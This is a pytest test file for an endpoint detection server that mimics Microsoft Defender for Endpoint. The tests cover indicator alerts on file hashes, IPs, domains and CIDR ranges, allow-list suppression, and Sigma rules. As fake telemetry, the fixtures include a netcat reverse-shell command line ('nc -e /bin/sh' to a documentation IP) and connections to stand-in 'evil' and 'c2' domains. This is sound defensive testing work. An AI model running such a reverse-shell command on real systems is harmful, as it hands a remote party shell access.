"""Detection at ingest: indicators of compromise raise alerts from real sensor activity (a binary
run by its SHA-256, a connection to an IP, a name looked up over DNS and then connected to) and
from protocol-level telemetry (a domain in a URL, a CIDR range), Allowed indicators suppress, and
the alerts are MDE-shaped."""
import os
import shutil
import signal
import socket
import subprocess
import time
import uuid

import pytest

from sensor_helpers import FakeSensor, onboarding_info
from shapes import assert_shape
from test_sensor import SENSOR, device_id_of, package, wait_for


def alerts_on(ward, token, device, title):
    # title is not filterable in MDE's Alerts set: filter by device here.
    r = ward.get("/api/alerts?$filter=detectionSource eq 'CustomTi'&$expand=evidence", token)
    assert r.status_code == 200, r.text
    return [a for a in r.json()["value"] if a["machineId"] == device and a["title"] == title]


def add_indicator(ward, token, value, kind, title, action="AlertAndBlock"):
    r = ward.post("/api/indicators", token, json={"indicatorValue": value, "indicatorType": kind, "action": action,
                                                  "title": title, "description": "e2e", "severity": "High",
                                                  "generateAlert": True})
    assert r.status_code == 200, r.text
    return r.json()


@pytest.fixture
def real_sensor(ward, tmp_path):
    state = tmp_path / "state"
    state.mkdir()
    pkg = package(ward, tmp_path)
    # The test's own DNS "resolver" answers on a free loopback port the sensor is told to watch, so the
    # host's resolver configuration is never touched.
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    resolver.bind(("127.0.0.1", 0))
    proc = subprocess.Popen([SENSOR, "--onboarding", str(pkg), "--state-dir", str(state),
                             "--dns-port", str(resolver.getsockname()[1]),
                             # On the test host: never touch its firewall or gate its execs (the
                             # enforcement tests run in namespaces of their own).
                             "--no-host-enforcement"],
                            stdout=open(tmp_path / "sensor.log", "w"), stderr=subprocess.STDOUT)
    try:
        device = device_id_of(str(state))
        assert device, (tmp_path / "sensor.log").read_text()
        time.sleep(1.0)  # collectors subscribe
        yield {"device": device, "log": tmp_path / "sensor.log", "state": state, "resolver": resolver}
    finally:
        resolver.close()
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()


def test_sha256_indicator_alerts_when_the_binary_runs(ward, admin_token, real_sensor, tmp_path):
    # A binary of our own: /bin/true with bytes appended (ELF ignores them), so its hash is unique.
    binary = tmp_path / f"ward-ioc-{uuid.uuid4().hex[:8]}"
    shutil.copy("/bin/true", binary)
    with open(binary, "ab") as f:
        f.write(os.urandom(64))
    import hashlib
    sha256 = hashlib.sha256(binary.read_bytes()).hexdigest()
    title = f"Known bad binary {sha256[:8]}"
    add_indicator(ward, admin_token, sha256, "FileSha256", title)
    time.sleep(1.5)  # the detector re-reads indicators at most every second
    subprocess.run([str(binary)], check=True)
    found = wait_for(lambda: alerts_on(ward, admin_token, real_sensor["device"], title), 20)
    assert found, real_sensor["log"].read_text()[-2000:]
    alert = found[0]
    assert_shape("Alert", alert)
    assert alert["detectionSource"] == "CustomTi" and alert["severity"] == "High" and alert["status"] == "New"
    assert any(e["sha256"] == sha256 for e in alert["evidence"]), alert["evidence"]
    # The sensor fetched its enforcement policy after its first heartbeat (the response actions enforce it).
    import json
    kept = wait_for(lambda: (real_sensor["state"] / "policy.json").exists(), 10)
    assert kept, real_sensor["log"].read_text()[-2000:]
    policy = json.loads((real_sensor["state"] / "policy.json").read_text())
    assert policy["version"] and isinstance(policy["indicators"], list)
    # Running it again folds into the open alert instead of opening a second one.
    subprocess.run([str(binary)], check=True)
    time.sleep(3)
    again = alerts_on(ward, admin_token, real_sensor["device"], title)
    assert len(again) == 1 and len(again[0]["evidence"]) > len(alert["evidence"])


def test_ip_indicator_alerts_on_a_connection(ward, admin_token, real_sensor):
    ip = "127.0.0.2"  # loopback, but not the address the sensor uploads to
    title = f"Bad address {uuid.uuid4().hex[:8]}"
    add_indicator(ward, admin_token, ip, "IpAddress", title)
    time.sleep(1.5)
    listener = socket.socket()
    listener.bind((ip, 0))
    listener.listen(1)
    client = socket.create_connection(listener.getsockname())
    conn, _ = listener.accept()
    try:
        found = wait_for(lambda: alerts_on(ward, admin_token, real_sensor["device"], title), 20)
        assert found, real_sensor["log"].read_text()[-2000:]
        assert any(e["ipAddress"] == ip for e in found[0]["evidence"])
    finally:
        client.close()
        conn.close()
        listener.close()


def dns_answer(query, address, ttl=60):
    """A DNS response (RFC 1035) to the query datagram `query`, with one A record for `address`."""
    qid, qdcount = query[:2], int.from_bytes(query[4:6], "big")
    assert qdcount == 1
    end = 12
    while query[end]:
        end += query[end] + 1
    question = query[12:end + 5]
    header = qid + b"\x81\x80" + b"\x00\x01\x00\x01\x00\x00\x00\x00"
    record = b"\xc0\x0c" + b"\x00\x01\x00\x01" + ttl.to_bytes(4, "big") + b"\x00\x04" + socket.inet_aton(address)
    return header + question + record


def dns_query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x01\x00\x01"


def test_domain_indicator_alerts_on_a_lookup_and_the_connection_after_it(ward, admin_token, real_sensor):
    tag = uuid.uuid4().hex[:8]
    domain = f"c2-{tag}.example"
    title = f"Bad domain {tag}"
    add_indicator(ward, admin_token, domain, "DomainName", title)
    time.sleep(1.5)
    address = "127.0.0.3"  # loopback, answered for the name
    listener = socket.socket()
    listener.bind((address, 0))
    listener.listen(1)
    resolver = real_sensor["resolver"]
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(5)
    try:
        # A real lookup over UDP: the client asks, the resolver answers, the sensor reads the answer.
        client.sendto(dns_query(f"www.{domain}"), resolver.getsockname())
        query, asker = resolver.recvfrom(512)
        resolver.sendto(dns_answer(query, address), asker)
        answer, _ = client.recvfrom(512)
        assert socket.inet_aton(address) in answer
        conn = socket.create_connection((address, listener.getsockname()[1]))
        accepted, _ = listener.accept()
        # The lookup and the connection fold into one alert; whichever is detected first raises it
        # and the other adds its evidence, so wait for the name to be among the evidence.
        def with_url():
            alerts = alerts_on(ward, admin_token, real_sensor["device"], title)
            return alerts if alerts and any(e["url"] == f"www.{domain}" for e in alerts[0]["evidence"]) else None
        found = wait_for(with_url, 20)
        assert found, (alerts_on(ward, admin_token, real_sensor["device"], title), real_sensor["log"].read_text()[-2000:])
        # The connection carries the name it was looked up as, and folds into the same alert.
        hunted = wait_for(lambda: hunt_rows(ward, admin_token, f"""
            DeviceNetworkEvents | where DeviceId == '{real_sensor["device"]}' and RemoteUrl == 'www.{domain}'
            | where ActionType == 'ConnectionSuccess' | project RemoteIP, RemotePort, InitiatingProcessId"""), 20)
        assert hunted and hunted[0]["RemoteIP"] == address and hunted[0]["InitiatingProcessId"] == os.getpid(), hunted
        lookups = hunt_rows(ward, admin_token, f"""
            DeviceEvents | where DeviceId == '{real_sensor["device"]}' and ActionType == 'DnsQueryResponse'
            | extend q = tostring(parse_json(AdditionalFields).DnsQueryString) | where q == 'www.{domain}'""")
        assert len(lookups) == 1, lookups
        assert len(alerts_on(ward, admin_token, real_sensor["device"], title)) == 1
        conn.close()
        accepted.close()
    finally:
        client.close()
        listener.close()


def hunt_rows(ward, token, query):
    r = ward.post("/api/advancedqueries/run", token, json={"Query": query})
    assert r.status_code == 200, r.text
    return r.json()["Results"]


def test_domain_and_cidr_indicators_and_allowed_suppression(ward, admin_token):
    tag = uuid.uuid4().hex[:8]
    s = FakeSensor(ward, onboarding_info(ward, admin_token))
    s.enroll()
    add_indicator(ward, admin_token, f"evil-{tag}.example", "DomainName", f"Bad domain {tag}")
    add_indicator(ward, admin_token, "198.18.0.0/15", "IpAddress", f"Bad range {tag}")
    allowed_sha1 = uuid.uuid4().hex + "aaaaaaaa"
    add_indicator(ward, admin_token, allowed_sha1, "FileSha1", f"Allowed tool {tag}", action="Allowed")
    time.sleep(1.5)
    hit = s.event("DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP="203.0.113.50", RemotePort=443,
                  RemoteUrl=f"https://cdn.evil-{tag}.example/x", InitiatingProcessFileName="curl")
    near_miss = s.event("DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP="203.0.113.51", RemotePort=443,
                        RemoteUrl=f"https://notevil-{tag}.example.org/x", InitiatingProcessFileName="curl")
    in_range = s.event("DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP="198.19.4.4", RemotePort=80,
                       InitiatingProcessFileName="wget")
    allowed = s.event("DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP="203.0.113.52", RemotePort=443,
                      RemoteUrl=f"https://evil-{tag}.example/allowed", InitiatingProcessFileName="tool",
                      InitiatingProcessSHA1=allowed_sha1)
    assert s.send([hit, near_miss, in_range, allowed]).json()["accepted"] == 4
    domain = wait_for(lambda: alerts_on(ward, admin_token, s.device_id, f"Bad domain {tag}"), 15)
    assert domain and len(domain) == 1
    urls = {e["url"] for e in domain[0]["evidence"] if e["url"]}
    assert urls == {f"https://cdn.evil-{tag}.example/x"}, urls  # not the near miss, not the allowed one
    ranged = wait_for(lambda: alerts_on(ward, admin_token, s.device_id, f"Bad range {tag}"), 15)
    assert ranged and any(e["ipAddress"] == "198.19.4.4" for e in ranged[0]["evidence"])
    assert not alerts_on(ward, admin_token, s.device_id, f"Allowed tool {tag}")


def sigma_alerts(ward, token, device):
    r = ward.get("/api/alerts?$filter=detectionSource eq 'WardEdr'&$expand=evidence", token)
    assert r.status_code == 200, r.text
    return [a for a in r.json()["value"] if a["machineId"] == device]


def test_builtin_sigma_rule_raises_an_alert(ward, admin_token):
    s = FakeSensor(ward, onboarding_info(ward, admin_token))
    s.enroll()
    near_miss = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                        ProcessCommandLine="nc -l 4444", ProcessId=11)
    assert s.send([near_miss]).json()["accepted"] == 1
    hit = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                  ProcessCommandLine="nc -e /bin/sh 203.0.113.9 4444", ProcessId=12, AccountName="www-data")
    assert s.send([hit]).json()["accepted"] == 1
    found = wait_for(lambda: sigma_alerts(ward, admin_token, s.device_id), 15)
    assert len(found) == 1, found
    alert = found[0]
    assert alert["title"] == "Netcat Binding A Program To A Connection" and alert["severity"] == "High"
    assert "T1059" in alert["mitreTechniques"] and alert["category"] == "Execution"
    procs = [e for e in alert["evidence"] if e["entityType"] == "Process"]
    assert [p["processId"] for p in procs] == [12]  # the near miss is not evidence


def test_rules_from_the_data_folder(tmp_path):
    from conftest import Ward
    w = Ward(tmp_path / "rules", tls=False)
    folder = tmp_path / "rules" / "rules" / "sigma"
    folder.mkdir(parents=True)
    (folder / "custom.yml").write_text("""title: Custom marker tool
id: 0b6f3c3e-7d43-4b7a-9b8e-0d7a55a1c001
status: experimental
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'ward-custom-marker'
    condition: selection
level: medium
tags:
    - attack.discovery
""")
    (folder / "broken.yml").write_text("title: broken\ndetection: [unclosed\n")
    w.start()
    try:
        token = w.app_token()
        s = FakeSensor(w, onboarding_info(w, token))
        s.enroll()
        ev = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="sh", FolderPath="/bin/sh",
                     ProcessCommandLine="sh -c 'echo ward-custom-marker'", ProcessId=5)
        assert s.send([ev]).json()["accepted"] == 1
        found = wait_for(lambda: sigma_alerts(w, token, s.device_id), 15)
        assert found and found[0]["title"] == "Custom marker tool" and found[0]["severity"] == "Medium"
        assert "broken.yml" in open(tmp_path / "rules" / "server.log").read()
    finally:
        w.stop()


API_RULE = """title: API marker tool
id: 7a0c2d51-5b7e-4c61-9a0e-3f0e4b2a9d02
status: experimental
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'ward-api-marker'
    condition: selection
level: high
tags:
    - attack.execution
"""


def test_sigma_rules_through_the_api(tmp_path):
    from conftest import Ward, assert_mde_error
    w = Ward(tmp_path / "api-rules", tls=False)
    w.start()
    yaml_headers = {"Content-Type": "application/x-yaml"}
    try:
        token = w.app_token()
        r = w.post("/api/detectionrules", token, data="title: broken\ndetection:\n  sel: [unclosed\n", headers=yaml_headers)
        assert_mde_error(r, 400, "InvalidInput")
        assert "line" in r.json()["error"]["message"], r.text
        r = w.post("/api/detectionrules", token, data=API_RULE, headers=yaml_headers)
        assert r.status_code == 201, r.text
        rule = r.json()
        assert rule["id"] == "7a0c2d51-5b7e-4c61-9a0e-3f0e4b2a9d02" and rule["source"] == "api" and rule["level"] == "high"
        listed = w.get("/api/detectionrules", token).json()["value"]
        assert {x["source"] for x in listed} >= {"builtin", "api"}
        s = FakeSensor(w, onboarding_info(w, token))
        s.enroll()
        ev = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="sh", FolderPath="/bin/sh",
                     ProcessCommandLine="sh -c 'echo ward-api-marker'", ProcessId=5)
        assert s.send([ev]).json()["accepted"] == 1
        found = wait_for(lambda: [a for a in sigma_alerts(w, token, s.device_id) if a["title"] == "API marker tool"], 15)
        assert found and found[0]["severity"] == "High"
    finally:
        w.stop()
    # Stored: the rule is back after a restart and can then be deleted.
    w.start()
    try:
        token = w.app_token()
        listed = w.get("/api/detectionrules", token).json()["value"]
        assert [x["id"] for x in listed if x["source"] == "api"] == [rule["id"]]
        builtin = next(x for x in listed if x["source"] == "builtin")
        assert_mde_error(w.request("DELETE", f"/api/detectionrules/{builtin['id']}", token), 400, "InvalidInput")
        r = w.request("DELETE", f"/api/detectionrules/{rule['id']}", token)
        assert r.status_code == 204, r.text
        assert_mde_error(w.request("DELETE", f"/api/detectionrules/{rule['id']}", token), 404, "ResourceNotFound")
        before = len([a for a in sigma_alerts(w, token, s.device_id) if a["title"] == "API marker tool"])
        # A new device, so de-duplication cannot hide an alert: after the delete, none is raised.
        s2 = FakeSensor(w, onboarding_info(w, token))
        s2.enroll()
        marker = s2.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="sh", FolderPath="/bin/sh",
                          ProcessCommandLine="sh -c 'echo ward-api-marker again'", ProcessId=6)
        canary = s2.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                          ProcessCommandLine="nc -e /bin/sh 203.0.113.9 4444", ProcessId=7)
        assert s2.send([marker, canary]).json()["accepted"] == 2
        # The built-in rule firing on the same batch shows detection ran past the marker event.
        assert wait_for(lambda: sigma_alerts(w, token, s2.device_id), 15)
        assert not [a for a in sigma_alerts(w, token, s2.device_id) if a["title"] == "API marker tool"]
        assert before == 1
    finally:
        w.stop()
